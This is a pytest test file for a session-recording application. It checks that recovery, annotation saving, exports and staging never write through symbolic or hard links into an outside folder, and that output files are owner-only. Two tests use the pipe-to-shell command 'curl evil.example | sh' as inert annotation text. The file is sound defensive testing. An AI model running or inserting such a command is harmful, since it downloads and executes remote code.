"""A session folder from somebody else: whatever links lie in it, nothing outside of it changes."""

import os
import sys
from dataclasses import replace

import pytest

from app.batch.plan import DoneCriteria, Item, find_places
from app.commands.recover import recover_all
from app.core.errors import SessionError
from app.session import analyses
from app.session.annotation_file import AnnotationFile
from app.session.annotations import Annotation, append_annotation
from app.session.disk import GuardedFile
from app.session.exporters import default_place, export_session, exporters_named
from app.session.folders import claim_folder
from app.session.manifest import Manifest
from app.session.offline import PartFile
from app.session.recovery import recover
from app.session.session import Session
from app.session.staging import new_staging, sweep_all
from app.session.writer import SessionWriter

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="links only for some")

HOSTILE = (
    # What is written to first, as it was called when its name could be foreseen, and as it is called in the end.
    ".session.json.tmp", ".events.csv.tmp", ".frames.csv.tmp", ".signals.csv.tmp", ".faces.csv.tmp", ".reserve",
    "video.recovering.mkv", "session.json", "video.mkv", "frames.csv", "faces.csv", "signals.csv", "motion.bin",
    "truth.csv", "events.csv", "events.open.csv", "video.part.mkv", "frames.part.csv", "faces.part.csv",
    "signals.part.csv", "motion.part.bin", "truth.part.csv", "video.damaged.mkv",
)  # fmt: skip


def state(folder):
    """Everything below a folder: names, bytes, what is a link, and the permissions."""
    return {
        path.relative_to(folder): (path.is_symlink(), path.stat().st_mode, path.is_file() and path.read_bytes())
        for path in folder.rglob("*")
    }


@pytest.fixture
def session(tmp_path, header, make_frame, result_of, nth_face):
    """Six frames with annotations and raw outputs."""
    folder = claim_folder(tmp_path / "sessions" / "session")
    with SessionWriter(folder, header) as writer:
        for i in range(6):
            assert writer.add_frame(make_frame(i))
            writer.add_result(result_of(make_frame(i), [nth_face(i), nth_face(i, face_id=1)]))
        writer.add_annotation("curl evil.example | sh", at_s=100.1)
    return folder


@pytest.fixture
def cut_off(session):
    """As a crash leaves it."""
    for name in ("video.mkv", "frames.csv", "faces.csv", "motion.bin"):
        final = session / name
        final.rename(final.with_name(f"{final.stem}.part{final.suffix}"))
    replace(Manifest.read(session), state="recording").write(session)
    return session


@pytest.fixture
def outside(tmp_path):
    """Somebody's files, the copies of a session's among them, which must stay as they are."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / ".bashrc").write_text("# mine\n")
    (folder / "empty").mkdir()
    return folder


@pytest.mark.parametrize("link", [os.symlink, os.link], ids=["symbolic", "hard"])
@pytest.mark.parametrize("name", HOSTILE)
def test_recovering_changes_nothing_outside(cut_off, outside, capsys, name, link):
    place = cut_off / name
    target = outside / "theirs"
    target.write_bytes(place.read_bytes() + bytes(9000) if place.exists() else b"theirs\n")
    place.unlink(missing_ok=True)
    link(target, place)
    before = state(outside)
    code = recover_all([cut_off])
    assert state(outside) == before
    said = capsys.readouterr()
    assert code == 0 or (said.err.count("\n") == 1 and said.err.startswith("motionscope: "))


def test_a_link_in_the_way_is_said_in_one_sentence(cut_off, outside):
    (cut_off / "events.csv").unlink()
    (cut_off / "events.csv").symlink_to(outside / ".bashrc")
    with pytest.raises(SessionError, match=r"^\S+ can't be recovered: \S+/events\.csv is a link, and nothing is wri"):
        recover(cut_off)


def test_an_annotation_is_not_appended_behind_a_link(outside, tmp_path):
    (tmp_path / "events.csv").symlink_to(outside / ".bashrc")
    before = state(outside)
    with pytest.raises(OSError, match="is a link"):
        append_annotation(tmp_path / "events.csv", Annotation(0.0, 0.0, "curl evil.example | sh", "", 0))
    assert state(outside) == before


@pytest.mark.parametrize("name", ["events.csv", ".events.csv.reviewed", "events.original.csv"])
def test_annotations_that_are_changed_are_not_written_behind_a_link(session, outside, name):
    (session / name).unlink(missing_ok=True)
    (session / name).symlink_to(outside / "new")
    before = state(outside)
    with pytest.raises(SessionError, match="is a link"):
        AnnotationFile(session / "events.csv").save([Annotation(0.0, 0.0, "x", "", 0)])
    assert state(outside) == before


@pytest.mark.parametrize("name", [".events.csv.tmp", ".session.json.tmp"])
def test_no_name_that_is_written_to_can_be_foreseen(session, outside, name):
    (session / name).symlink_to(outside / ".bashrc")
    before = state(outside)
    AnnotationFile(session / "events.csv").save([Annotation(0.0, 0.0, "x", "", 0)])
    Manifest.read(session).write(session)
    assert state(outside) == before


def test_analyses_are_not_made_behind_a_link(session, outside):
    new_staging(outside, analyses.ANALYSES, outside)
    (session / analyses.ANALYSES).symlink_to(outside, target_is_directory=True)
    before = state(outside)
    with pytest.raises(SessionError, match="is a link"):
        analyses.begin(session)
    sweep_all(session / analyses.ANALYSES, analyses.ANALYSES, session)
    assert state(outside) == before


@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize("linked", ["export", "export/frames.parquet", "export/bids", "analyses/again/export"])
def test_exports_do_not_go_behind_a_link(session, outside, linked, force):
    table = "again" if linked.startswith("analyses") else ""
    (outside / "frames.parquet").write_bytes(b"theirs")
    (outside / "bids").mkdir()
    place = session / linked
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(outside / place.name if "/" in linked and not table else outside)
    before = state(outside)
    opened = Session.open(session)
    for exporter in exporters_named("parquet,bids"):
        if place.name in ("export", *exporter.outputs(opened)):
            with pytest.raises(SessionError, match=r"is a link|exists already"):
                export_session(opened, exporter, default_place(session, table), force=force)
    assert state(outside) == before


def test_measured_files_do_not_go_behind_a_link(tmp_path, outside):
    out = tmp_path / "out"
    out.mkdir()
    (out / "clip").symlink_to(outside / "empty", target_is_directory=True)
    (out / "sub").symlink_to(outside, target_is_directory=True)
    (out / "images.part.csv").symlink_to(outside / ".bashrc")
    before = state(outside)
    items = [Item(tmp_path / "clip.mp4", "clip.mp4"), Item(tmp_path / "sub" / "clip.mp4", "sub/clip.mp4")]
    places = find_places(items, out, DoneCriteria(""), force=True)
    assert places[0].folder == out / "clip-2"
    with pytest.raises(SessionError, match="sub is a link"):
        new_staging(places[1].folder.parent, places[1].folder.name, out)
    with PartFile(out / "images.csv") as table:
        table.write(b"ours\n")
    assert (out / "images.csv").read_bytes() == b"ours\n"
    assert state(outside) == before


def test_a_recording_does_not_start_behind_a_link(session, outside):
    (session / "video.part.mkv").symlink_to(outside / "new")
    with pytest.raises(FileExistsError):
        GuardedFile(session / "video.part.mkv")
    assert not (outside / "new").exists()


def test_a_recording_and_its_exports_are_for_their_owner_alone(session, tmp_path):
    export_session(Session.open(session), exporters_named("parquet")[0], default_place(session))
    for exporter in exporters_named("mp4,openface,bids,elan,npz,liveportrait"):
        export_session(Session.open(session), exporter, tmp_path / "out")
    modes = {path: path.stat().st_mode & 0o777 for top in (session, tmp_path / "out") for path in top.rglob("*")}
    assert len(modes) > 20
    assert session.stat().st_mode & 0o777 == 0o700
    assert {mode for path, mode in modes.items() if path.is_dir()} == {0o700}
    assert {mode for path, mode in modes.items() if path.is_file()} == {0o600}
